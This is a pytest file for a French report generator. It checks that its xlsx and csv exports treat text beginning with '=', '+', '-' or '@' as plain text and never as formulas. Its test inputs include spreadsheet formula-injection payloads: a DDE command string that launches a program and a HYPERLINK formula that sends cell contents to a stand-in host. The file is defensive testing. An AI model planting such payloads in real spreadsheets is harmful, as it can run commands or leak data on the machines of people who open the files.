"""A text that starts like a formula is a text in the spreadsheets: never run, read as written."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from generator.library.formatting import typeset

from .test_corpus import DATE, _write

PREFIXES = ['=HYPERLINK("http://x.example/?"&A1;"clic")', "+33 1 23 45 67", "-2+3", "@SUM(A1:A2)",
            "=cmd|' /C calc'!A0", "＝1+1", "=1+1"]


def _mission(titre: str, client: str) -> str:
    return (f"titre: '{titre.replace(chr(39), chr(39) * 2)}'\nmaitre_ouvrage: '{client.replace(chr(39), chr(39) * 2)}'\n"
            "annees: 2025\nmontant:\n  - valeur: 1000\n    taxe: HT\n")


@pytest.mark.parametrize("text", PREFIXES)
def test_xlsx_cells_are_text_never_formulas(project, run, text):
    _write(project, "references/missions/zz.yaml", _mission(text, text))
    assert run("table", "--date", DATE, "--id", "zz", "--format", "xlsx", "-o", "t.xlsx").exit_code == 0
    sheet = load_workbook(project / "t.xlsx").active
    row = [cell for cell in sheet[2]]
    titles = [cell for cell in row if cell.value == typeset(text)]
    assert len(titles) == 2  # client and title, as written (French apostrophes at render time)
    assert all(cell.data_type == "s" for cell in titles)
    assert all(cell.data_type != "f" for cell in row)
    assert next(cell for cell in row if cell.value == 1000).data_type == "n"  # amounts stay numbers


@pytest.mark.parametrize("text", PREFIXES)
def test_csv_cells_are_escaped(project, run, text):
    _write(project, "references/missions/zz.yaml", _mission(text, text))
    assert run("table", "--date", DATE, "--id", "zz", "--format", "csv", "-o", "t.csv").exit_code == 0
    rows = list(csv.reader(io.StringIO((project / "t.csv").read_text(encoding="utf-8-sig")), delimiter=";"))
    header = rows[0]
    title, client, amount = (header.index(h) for h in ("Objet de la mission", "Destinataire", "Montant (€)"))
    assert rows[1][title] == "'" + typeset(text) and rows[1][client] == "'" + typeset(text)
    assert rows[1][amount] == "1000"


def test_ordinary_texts_are_untouched(project, run):
    _write(project, "references/missions/zz.yaml", _mission("Étude = urbaine + sociale", "Ville de Pantin"))
    assert run("table", "--date", DATE, "--id", "zz", "--format", "csv", "-o", "t.csv").exit_code == 0
    rows = list(csv.reader(io.StringIO((project / "t.csv").read_text(encoding="utf-8-sig")), delimiter=";"))
    title, client = rows[0].index("Objet de la mission"), rows[0].index("Destinataire")
    assert rows[1][client] == "Ville de Pantin" and rows[1][title] == "Étude = urbaine + sociale"
